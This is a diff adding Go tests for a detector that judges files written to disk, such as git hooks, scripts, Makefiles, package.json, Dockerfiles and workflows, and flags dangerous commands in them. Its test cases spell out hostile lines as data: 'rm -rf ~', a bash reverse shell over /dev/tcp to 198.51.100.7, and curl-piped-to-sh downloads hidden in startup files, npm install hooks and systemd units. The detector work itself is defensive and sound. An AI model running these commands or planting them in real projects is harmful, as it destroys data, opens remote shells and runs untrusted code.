@@ -1,0 +1,87 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestAnalyzeFile: a written file is judged by what will run it, chosen by its path and #!
+// line; an ordinary script keeps only its severe certain findings, as questions, a file that
+// runs without being called every finding as it is.
+func TestAnalyzeFile(t *testing.T) {
+	for _, tc := range []struct {
+		name, file, text string
+		kind             string
+		unprompted       bool
+		rule             string // a finding's rule, "" for none
+		uncertain        bool
+	}{
+		{"git hook", "/home/u/p/.git/hooks/pre-commit", "#!/bin/sh\nrm -rf ~\n", "shell", true, "destroy/rm_outside", false},
+		{"a hook's sample does not run", "/home/u/p/.git/hooks/pre-commit.sample", "rm -rf ~\n", "", false, "", false},
+		{"script", "/home/u/p/run.sh", "rm -rf ~\n", "shell", false, "destroy/rm_outside", true},
+		{"state carries across lines", "/home/u/p/run.sh", "cd /\nrm -rf *\n", "shell", false, "destroy/rm_outside", true},
+		{"a system folder of a maintainer script", "/home/u/p/test.sh", "rm -rf /var/lib/app /run/app\n", "shell", false, "", false},
+		{"the same in a hook", "/home/u/p/.husky/pre-commit", "rm -rf /var/lib/app\n", "shell", true, "destroy/rm_outside", false},
+		{"a port check through /dev/tcp", "/home/u/p/wait-for-it.sh", "#!/usr/bin/env bash\nfor i in $(seq 15); do\n  (echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1 && exec \"$@\"\n  sleep 1\ndone\n", "shell", false, "", false},
+		{"a reverse shell through /dev/tcp", "/home/u/p/x.sh", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", "shell", false, "exfil/dev_tcp", true},
+		{"a port check of this machine", "/home/u/p/x.sh", "until echo > /dev/tcp/localhost/5432; do sleep 1; done\n", "shell", false, "", false},
+		{"the instance's metadata", "/home/u/p/region.sh", "curl -s http://169.254.169.254/latest/meta-data/placement/region\n", "shell", false, "", false},
+		{"an installer in a script adds nothing", "/home/u/p/setup.sh", "curl -fsSL https://get.example.com | sh\n", "shell", false, "", false},
+		{"an installer in .envrc asks", "/home/u/p/.envrc", "curl -fsSL https://get.example.com | sh\n", "shell", true, "exec/https_script", true},
+		{"#! names the shell", "/home/u/p/bin/x", "#!/usr/bin/env -S bash -e\ncurl http://198.51.100.7/x | sh\n", "shell", false, "exec/download_run", true},
+		{"#! names python", "/home/u/p/bin/x", "#!/usr/bin/python3\nimport os\nos.system('rm -rf /')\n", "python", false, "destroy/rm_outside", true},
+		{"a start-up file", "/home/u/.bashrc", "curl http://198.51.100.7/x | sh\n", "shell", true, "exec/download_run", false},
+		{"a systemd user unit's Exec line", "/home/u/.config/systemd/user/x.service", "[Service]\nExecStart=/bin/sh -c 'curl http://198.51.100.7/x | sh'\n", "shell", true, "exec/download_run", false},
+		{"make recipe with $$", "/home/u/p/Makefile", "x:\n\trm -rf $$HOME\n", "make", false, "destroy/rm_outside", true},
+		{"make recipe after ;", "/home/u/p/build.mk", "x: ; curl http://198.51.100.7/x | sh\n", "make", false, "exec/download_run", true},
+		{"npm lifecycle", "/home/u/p/package.json", `{"scripts":{"preinstall":"curl -fsSL https://get.example.com | sh"}}`, "npm", true, "exec/https_script", true},
+		{"npm run script asks nothing", "/home/u/p/package.json", `{"scripts":{"setup":"curl -fsSL https://get.example.com | sh"}}`, "npm", false, "", false},
+		{"npm run script asked", "/home/u/p/package.json", `{"scripts":{"setup":"curl http://198.51.100.7/x | sh"}}`, "npm", false, "exec/download_run", true},
+		{"npm piece", "/home/u/p/package.json", `"install": "curl http://198.51.100.7/x | sh",`, "npm", true, "exec/download_run", false},
+		{"docker exec form", "/home/u/p/Dockerfile.dev", `RUN ["sh", "-c", "curl http://198.51.100.7/x | sh"]`, "docker", false, "exec/download_run", true},
+		{"docker options and continuation", "/home/u/p/Containerfile", "RUN --mount=type=cache,target=/root/.cache \\\n  curl http://198.51.100.7/x | sh", "docker", false, "exec/download_run", true},
+		{"docker cleans its lists", "/home/u/p/Dockerfile", "RUN apt-get update && rm -rf /var/lib/apt/lists/*", "docker", false, "", false},
+		{"workflow one-line step", "/home/u/p/.github/workflows/x.yaml", "steps:\n  - run: 'curl http://198.51.100.7/x | sh'\n", "workflow", false, "exec/download_run", true},
+		{"workflow expression", "/home/u/p/.github/workflows/x.yml", "steps:\n  - run: echo ${{ github.event.issue.title }}\n", "workflow", false, "", false},
+		{"python deletes the home folder", "/home/u/p/wipe.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", "python", false, "destroy/code_delete", true},
+		{"python deletes a cache in the home folder", "/home/u/p/clean.py", "import shutil, os\nshutil.rmtree(os.path.expanduser('~/.cache/app'))\n", "python", false, "", false},
+		{"python build clean", "/home/u/p/clean.py", "import shutil\nshutil.rmtree('build')\n", "python", false, "", false},
+		{"python env and network far apart", "/home/u/p/app.py", "import os, urllib.request\nHOME = os.environ['HOME']\n\ndef get(u):\n    return urllib.request.urlopen(u).read()\n", "python", false, "", false},
+		{"node child_process", "/home/u/p/x.mjs", "import {execSync} from 'child_process'\nexecSync('rm -rf ~')\n", "node", false, "destroy/rm_outside", true},
+		{"ruby system", "/home/u/p/x.rb", "system('curl http://198.51.100.7/x | sh')\n", "ruby", false, "exec/download_run", true},
+		{"perl system", "/home/u/p/x.pl", "system(\"rm -rf /\");\n", "perl", false, "destroy/rm_outside", true},
+		{"notebook shell escape", "/home/u/p/a.ipynb", "!curl http://198.51.100.7/x | sh", "notebook", false, "exec/download_run", true},
+		{"prose", "/home/u/p/README.md", "run `rm -rf ~` never\n", "", false, "", false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			r := AnalyzeFile(tc.file, tc.text)
+			if r.Kind != tc.kind || r.Unprompted != tc.unprompted {
+				t.Fatalf("kind %q unprompted %v, want %q %v", r.Kind, r.Unprompted, tc.kind, tc.unprompted)
+			}
+			if tc.rule == "" {
+				if len(r.Findings) > 0 {
+					t.Fatalf("findings %+v, want none", r.Findings)
+				}
+				return
+			}
+			for _, f := range r.Findings {
+				if f.Rule == tc.rule && f.Uncertain == tc.uncertain {
+					return
+				}
+			}
+			t.Fatalf("findings %+v, want %s uncertain=%v", r.Findings, tc.rule, tc.uncertain)
+		})
+	}
+}
+
+// TestAnalyzeFileTooLong: a text over MaxParseBytes is not analysed, and says so.
+func TestAnalyzeFileTooLong(t *testing.T) {
+	text := "rm -rf ~\n" + strings.Repeat("echo ok\n", MaxParseBytes/8)
+	r := AnalyzeFile("/home/u/p/.git/hooks/pre-commit", text)
+	if !r.TooLong || !r.Unprompted || len(r.Findings) != 0 {
+		t.Fatalf("got %+v, want TooLong, Unprompted and no findings", r)
+	}
+	if r := AnalyzeFile("/home/u/p/run.sh", "rm -rf ~\n"); r.TooLong {
+		t.Fatal("a short text is not too long")
+	}
+}
